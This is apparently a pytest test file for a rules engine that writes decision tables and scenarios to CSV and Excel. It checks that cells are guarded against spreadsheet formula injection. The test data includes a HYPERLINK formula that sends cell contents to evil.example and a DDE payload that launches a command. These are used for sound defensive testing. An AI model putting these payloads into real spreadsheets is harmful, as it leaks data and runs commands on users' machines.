"""Cells that a spreadsheet would take for formulas: texts in CSV files and in workbooks."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from engine.rules import model
from engine.rules.files import read_rules, write_rules
from engine.rules.files.formulas import guarded, unguarded
from engine.rules.files.scenarios import read_scenarios, write_scenarios
from engine.rules.scenarios import Scenario

SIGNS = "=+-@＝＋－＠\t\r\n\x00"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"see")'
CREDIT = '''\
U,in: age,in: amount,out: route,out: rate,# why
type,number,number,string,number,
1,< 18,-,"""=1+1""",-5,minors
2,>= 18,= 7,"""+1""",-amount,adults
'''


@given(st.text("'=+-@5a \t\r\n\"(,.<", max_size=6))
def test_every_cell_comes_back_as_it_was(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell


@given(st.text(" '"), st.sampled_from(SIGNS), st.text(max_size=5))
def test_what_is_written_begins_no_formula_unless_it_only_counts(before: str, sign: str, after: str) -> None:
    written = guarded(before + sign + after)
    rest = re.sub('@"[^"]*"', "", written)
    assert written.startswith("'") or not any(one.isalpha() or one in "(|!&'@$" for one in rest)


@pytest.mark.parametrize("cell", ["-", "-5", "-1.50", "= 5", '@"2026-11-30"', "-5, -3", "> -3", "x", "'tis", "a=b", ""])
def test_what_is_written_by_hand_stays_as_it_is(cell: str) -> None:
    assert (guarded(cell), unguarded(cell)) == (cell, cell)


@pytest.mark.parametrize(
    "cell", ["=1+A1", "+A1", "-count(x)", "@SUM(A1)", "\tx", "\rx", " =A1", "=cmd|' /C calc'!A0", "＝A1"]
)  # fmt: skip
def test_what_could_do_something_is_a_text(cell: str) -> None:
    assert (guarded(cell), guarded("'" + cell)) == ("'" + cell, "''" + cell)


def credit() -> model.Model:
    """Return a table with remarks, labels, ids and outcomes that begin as formulas do."""
    read = read_rules("credit.csv", CREDIT.encode())
    decision = read.elements[-1]
    assert isinstance(decision, model.Decision)
    assert isinstance(decision.expression, model.DecisionTable)
    table = decision.expression
    first, second = table.rules
    rules = (replace(first, annotations=(EVIL,)), replace(second, annotations=("'+A1",), id="@SUM(A1)"))
    inputs = (replace(table.inputs[0], label="-A1"), *table.inputs[1:])
    changed = replace(decision, expression=replace(table, rules=rules, inputs=inputs))
    return replace(read, elements=(*read.elements[:-1], changed))


def test_tables_with_such_texts_are_read_again_as_they_were() -> None:
    written = write_rules("credit.csv", credit())
    cells = [cell for row in csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == ["-", "-5", "= 7"]
    assert [cell for cell in cells if cell.startswith("'")] == ["'-A1", "'" + EVIL, "'@SUM(A1)", "'-amount", "''+A1"]
    assert '"=1+1"' in cells
    for file in ("credit.csv", "credit.xlsx"):
        assert read_rules(file, write_rules(file, credit())) == credit()


def test_names_of_scenarios_are_read_again_as_they_were() -> None:
    names = (EVIL, "@SUM(A1)", "-5", "'=x", "plain")
    inputs = {"a": "=1+1", "b": -5, "c": date(2026, 11, 30)}
    scenarios = [Scenario(name, inputs, {"route": "+1"}) for name in names]
    written = write_scenarios("s.csv", scenarios).decode("utf-8-sig")
    rows = [*csv.reader(io.StringIO(written, newline=""))][1:]
    assert [row[0] for row in rows] == ["'" + EVIL, "'@SUM(A1)", "-5", "''=x", "plain"]
    assert rows[0][1:] == ['"=1+1"', "-5", '@"2026-11-30"', '"+1"']
    for file in ("s.csv", "s.xlsx"):
        assert [one.name for one in read_scenarios(file, write_scenarios(file, scenarios))] == [*names]


def test_no_cell_of_a_workbook_is_a_formula() -> None:
    books = [
        write_rules("credit.xlsx", credit()),
        write_scenarios("s.xlsx", [Scenario(EVIL, {"a": "=1+1"}, {"=b": "+1"}, "@SUM(A1)")]),
    ]
    for data in books:
        cells = [cell for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows() for cell in row]
        texts = {str(cell.value): cell.data_type for cell in cells if isinstance(cell.value, str)}
        assert set(texts.values()) == {"s"}
        assert EVIL in texts
